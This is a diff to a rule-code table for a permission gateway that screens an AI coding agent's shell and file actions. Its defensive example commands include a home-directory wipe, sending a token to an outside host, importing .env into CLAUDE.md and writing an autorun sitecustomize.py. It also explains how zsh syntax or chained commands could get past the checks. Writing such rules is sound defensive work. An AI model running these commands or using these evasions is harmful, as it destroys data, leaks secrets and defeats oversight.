@@ -414,6 +414,62 @@ CODES = {
               "that runs go generate again, more than 64 directives or 2,000 files, or a "
               "package named by import path instead of a directory asks.",
               "go generate ./...   (with //go:generate sh -c \"$CMD\" in a file)"),
+    # --- composed effects: the state a command creates, one model for both hooks -------
+    "GW780": ("5", "ask", "writes a file that runs code later",
+              "The effects analysis (the model both hooks share) says the command writes a "
+              "file whose content runs later without review (the rules' autorun list: "
+              "sitecustomize.py, usercustomize.py and *.pth in a site-packages directory, "
+              "shell start-up files), by any writer: cp or mv into it or into its directory "
+              "(-t DIR, a trailing /), tee, install, a name an option derives. PreToolUse asks "
+              "for the same write (GW836), so no hook allows it.",
+              "cp src/util.py .venv/lib/python3.11/site-packages/sitecustomize.py"),
+    "GW781": ("5", "ask", "a later part relies on what an earlier part of the command changes",
+              "The command has several parts, and one relies on something an earlier part "
+              "(or another part of the same pipeline) writes: it runs a script written, "
+              "moved or copied there (echo ... > scripts/a.sh && bash scripts/a.sh); it runs "
+              "code that reads the project's files and configuration after they changed "
+              "(printf ... > pytest.ini && pytest); a path goes through a link, a moved "
+              "or a copied tree made there (cp -r a b && cat b/x); a glob lists a directory "
+              "that gets new names; git runs where a repository or its configuration was "
+              "made. The gateway judges each part against the disk as it is before the "
+              "command runs, so what the later part does cannot be known. Run the parts as "
+              "separate commands: each is then judged against what the one before it left.",
+              "echo 'rm -rf ~' > scripts/a.sh && bash scripts/a.sh"),
+    "GW783": ("5", "ask", "a write of a file the client treats as sensitive",
+              "The command writes a file Claude Code itself treats as sensitive (the rules' "
+              "client_sensitive, read from the client and measured with it: anything below "
+              ".git, .vscode, .idea, .claude, .husky, .cargo, .devcontainer, .yarn, .mvn; "
+              "shell start-up files, .envrc, .npmrc, .mcp.json, hooks managers' "
+              "configuration...). The client asks before it edits one, even in acceptEdits; "
+              "an allow from the gateway would skip that dialog, so the gateway never gives "
+              "one and the client's own dialog stays.",
+              "echo 'npx lint-staged' > .husky/pre-commit"),
+    "GW784": ("5", "ask", "a write of a memory file that may add an import",
+              "The command writes a memory file (CLAUDE.md, CLAUDE.local.md, a Markdown file "
+              "below .claude/rules/, the user's ~/.claude/CLAUDE.md), and either the text it "
+              "writes imports a secret or a file outside the project (`@.env`, "
+              "`@~/.ssh/id_rsa`) or what it writes cannot be read off the command (a copy of "
+              "another file, an expansion, an escape, sed). The client loads a memory file "
+              "and its imports into the model's context at every session start, with no tool "
+              "call any hook sees. PreToolUse asks for the same write (GW850).",
+              "printf '@.env\\n' >> CLAUDE.md"),
+    "GW785": ("2", "ask", "a construct the user's zsh reads otherwise",
+              "Claude Code runs the Bash tool's commands in the user's shell: zsh when SHELL "
+              "or CLAUDE_CODE_SHELL names it, and also when SHELL is unset or another shell "
+              "and zsh is installed (measured). There the command holds a construct zsh reads "
+              "otherwise than the bash reading the gateway judges: `>!` clobbers a file (bash "
+              "writes a file named `!`), `=(...)` runs a command, `<1-9>` is a numeric glob, "
+              "`$=x`, `${(e)x}`, `$x:h`, `$x[1]`, `$#x` are zsh parameter forms, `&|` "
+              "disowns, a parenthesis in a word is a glob alternation.",
+              "echo x >! .claude/settings.local.json   (with SHELL=/bin/zsh)"),
+    "GW782": ("6", "ask", "a contained script that is not the HEAD commit's",
+              "A script under the project's containment directories (scripts/, "
+              ".claude/hooks/) runs without a dialog only when it is code a human has seen: "
+              "exactly what the repository's HEAD commit holds at that path (its blob id "
+              "is compared with git's). A new, changed, copied or moved script, one in a "
+              "project without a repository, or one git cannot answer for is unknown code: "
+              "read it, then approve it or commit it.",
+              "bash scripts/new.sh   (scripts/new.sh not committed)"),
     # --- Guards (PreToolUse) ----------------------------------------------------------------
     "GW800": ("guard", "ask", "no guard objects (no decision)",
               "No PreToolUse guard objects and nothing reads a secret. The hook prints nothing "
@@ -486,6 +542,14 @@ CODES = {
               "A write or edit of breezing-active.json that would leave impl_mode other than "
               "\"codex\" (or the file unreadable) is refused. Codex mode ends with `gateway "
               "state clean`.", "Edit breezing-active.json: \"codex\" -> \"standard\""),
+    "GW852": ("guard:role", "ask", "implementer runs code that may write outside its files",
+              "An implementer's command runs code the gateway cannot follow -- a test runner "
+              "(pytest), a build (make, cargo), a script, an interpreter -- which may write "
+              "any file and commit, though the implementer's own writes and commits are "
+              "limited (GW803, GW804). It runs without a dialog only when the implementer's "
+              "owns admit the whole project; otherwise PreToolUse asks, and PermissionRequest "
+              "gives no allow.",
+              "pytest -q   (as an implementer that owns src/auth/**)"),
     "GW820": ("guard:delegate", "deny", "delegate mode: tool not allowed",
               "In delegate mode (permission_mode \"delegate\" from clients up to 2.1.45, or "
               "breezing Phase B recorded by `gateway breezing phase B`) the Lead may use only "
@@ -600,6 +664,24 @@ CODES = {
               "or the scanner was not done within secrets.content.timeout_ms (it goes on in "
               "the background; the same call a moment later finds its verdict). GW841 when "
               "the scanner found a credential.", "Read huge.log"),
+    "GW850": ("guard:files", "ask", "a memory file gets an import of a secret or an outside file",
+              "A Write, Edit or MultiEdit of a memory file (CLAUDE.md, CLAUDE.local.md, "
+              ".claude/rules/*.md, ~/.claude/CLAUDE.md) adds an `@path` import of a secret or "
+              "of a file outside the project; or a Bash command writes a memory file and "
+              "what it writes is such an import or cannot be read off the command. The "
+              "client loads the file and its imports into the model's context at every "
+              "session start (no tool call, no hook sees it), so a human decides. The "
+              "SessionStart hook warns about such imports already there.",
+              "Edit CLAUDE.md adding '@.env'"),
+    "GW851": ("guard:network", "ask", "a URL or remote to a host the user has not allowed",
+              "A command hands a tool a URL or a remote (gh api http://HOST/..., npm view "
+              "git+http://HOST/x or user/repo, pip download URL, go get HOST/x, git fetch "
+              "host:path, --registry URL...) whose host the user has not allowed: the hosts of "
+              "sandbox.network.allowedDomains and of WebFetch(domain:...) allow rules in "
+              "Claude Code's settings, and the tool's own default service (rules' "
+              "remote_arguments). Data in the URL reaches that host, so PreToolUse asks in "
+              "every mode (the validator asks GW505).",
+              "gh api 'http://example.com/?k=TOKEN'"),
     "GW860": ("guard:sandbox", "info", "the sandbox hides what the command could read",
               "The call runs in Claude Code's Bash sandbox, whose sandbox.filesystem.denyRead "
               "holds every secret path of the rules (gateway install writes them), and the "
